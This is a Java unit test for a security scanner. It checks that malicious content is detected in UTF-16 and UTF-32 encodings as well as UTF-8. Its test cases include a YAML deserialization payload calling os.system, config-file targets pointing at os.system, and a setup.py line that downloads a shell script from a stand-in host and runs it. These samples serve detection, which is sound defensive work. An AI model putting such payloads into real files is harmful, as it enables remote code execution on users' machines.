package dev.bulwark.scan;

import static dev.bulwark.scan.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bulwark.kernel.check.CheckRun;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Text is judged by what it says, in whatever encoding a loader would read it.
class WideTextFilesTest {
  private static List<byte[]> written(String text) {
    List<byte[]> written = new ArrayList<>();
    for (String charset : List.of("UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE")) {
      written.add(text.getBytes(Charset.forName(charset)));
      written.add(("\ufeff" + text).getBytes(Charset.forName(charset)));
    }
    return written;
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "a.yaml | a: !!python/object/apply:os.system [id] | YML-001",
        "a.yml | _target_: os.system | HFC-002",
        "config.json | {\"_target_\": \"os.system\", \"command\": \"id\"} | HFC-002",
        "model.json | {\"class_name\": \"__lambda__\", \"config\": {\"value\": \"4wAA\"}} | KER-001",
        "setup.py | import os; os.system('curl http://x.example/a.sh -o a.sh; sh a.sh') | PYC-001",
        "a.txt | -----BEGIN PRIVATE KEY----- | ",
      })
  void whatItSaysIsFoundInEveryEncoding(String name, String text, String rule) {
    CheckRun plain = scan(name, (text + "\n").getBytes(StandardCharsets.UTF_8));
    for (byte[] wide : written(text + "\n")) {
      CheckRun run = scan(name, wide);
      assertThat(Verdict.of(run))
          .as("%s", run.findings())
          .isEqualTo(Verdict.of(plain).worse(Verdict.NOTICE));
      assertThat(run.findings())
          .filteredOn(finding -> !finding.rule().value().equals("TXT-002"))
          .extracting(finding -> finding.rule() + finding.message())
          .containsExactlyElementsOf(
              plain.findings().stream().map(f -> f.rule() + f.message()).toList());
      if (rule != null) {
        assertThat(run.findings()).extracting(finding -> finding.rule().value()).contains(rule);
      }
    }
  }

  /// What is not text to its end, and what does not say how it is written, has not passed.
  @ParameterizedTest
  @ValueSource(strings = {"a.yaml", "a.json", "a.py", "a.txt"})
  void whatCannotBeReadHasNotPassed(String name) {
    byte[] cut = "\ufeffa: b\n".getBytes(StandardCharsets.UTF_16LE);
    cut = java.util.Arrays.copyOf(cut, cut.length - 1);
    assertThat(Verdict.of(scan(name, cut))).isEqualTo(Verdict.INCOMPLETE);
    byte[] unmarked = "\u4e16\u754c: \u4e16\n".getBytes(StandardCharsets.UTF_16LE);
    assertThat(Verdict.of(scan(name, unmarked))).isEqualTo(Verdict.INCOMPLETE);
    byte[] control = "\ufeffa: \u0007\n".getBytes(StandardCharsets.UTF_16BE);
    assertThat(Verdict.of(scan(name, control))).isEqualTo(Verdict.INCOMPLETE);
  }
}
